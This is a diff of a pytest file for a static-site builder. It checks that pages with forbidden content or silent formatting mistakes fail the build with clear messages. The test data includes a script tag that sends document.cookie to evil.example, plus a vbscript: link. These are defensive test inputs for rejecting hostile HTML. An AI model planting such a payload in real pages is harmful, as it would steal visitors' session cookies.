@@ -48,7 +48,7 @@ def assert_failed_and_site_kept(project: Path, result, before: dict) -> None:
 
 # Errors: the build fails and site/ is left byte for byte -------------------------------------
 
-HOSTILE_HTML = {
+PAGE_ERRORS = {
     "script": ("<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
                "<script> is not allowed in a page: it can run code or show another website; "
                "remove it (to show a video, use the :video: shortcode)"),
@@ -73,12 +73,20 @@ HOSTILE_HTML = {
                              "link 'vbscript:msgbox(1)': 'vbscript:' addresses are not allowed in "
                              "a page (they can run code or hide what they show): link to a page, "
                              "a file or a website"),
+    # Silent losses: a box without its colour, a link printed as brackets.
+    "misspelt box type": ('!!! dnager "Careful"\n\n    Stop if it hurts.',
+                          "box type 'dnager' is not one the site knows, so it would show without "
+                          "its colour and icon (did you mean 'danger'?)"),
+    "reference link without its address": (
+        "Then try [the exercise][ex] on a step.",
+        "link [the exercise][ex] has no address: add a line '[ex]: https://...' (or the page's "
+        "file name) below the paragraph, or write the link as [the exercise](address)"),
 }
 
 
-@pytest.mark.parametrize("case", HOSTILE_HTML)
-def test_code_written_in_a_page_is_an_error_at_its_line(project, case):
-    text, message = HOSTILE_HTML[case]
+@pytest.mark.parametrize("case", PAGE_ERRORS)
+def test_code_or_a_silent_loss_in_a_page_is_an_error_at_its_line(project, case):
+    text, message = PAGE_ERRORS[case]
     before = tree_digest(project / "site")
     line = plant(project, text)
     result = run_build(project)
@@ -164,27 +172,6 @@ def test_an_indented_shortcode_is_an_error_not_text(project):
     assert problems_of(result) == [
         f"docs/exercise.md:{line}: shortcode ':video:' was not used: a shortcode must start at the "
         f"beginning of its line, with no spaces before it", "1 error, 0 warnings"]
-    assert_failed_and_site_kept(project, result, before)
-
-
-def test_a_misspelt_box_type_is_an_error_with_a_suggestion(project):
-    before = tree_digest(project / "site")
-    line = plant(project, '!!! dnager "Careful"\n\n    Stop if it hurts.')
-    result = run_build(project)
-    assert problems_of(result) == [
-        f"{ANATOMY}:{line}: box type 'dnager' is not one the site knows, so it would show without "
-        f"its colour and icon (did you mean 'danger'?)", "1 error, 0 warnings"]
-    assert_failed_and_site_kept(project, result, before)
-
-
-def test_a_reference_link_without_its_address_is_an_error(project):
-    before = tree_digest(project / "site")
-    line = plant(project, "Then try [the exercise][ex] on a step.")
-    result = run_build(project)
-    assert problems_of(result) == [
-        f"{ANATOMY}:{line}: link [the exercise][ex] has no address: add a line '[ex]: "
-        f"https://...' (or the page's file name) below the paragraph, or write the link as "
-        f"[the exercise](address)", "1 error, 0 warnings"]
     assert_failed_and_site_kept(project, result, before)
 
 
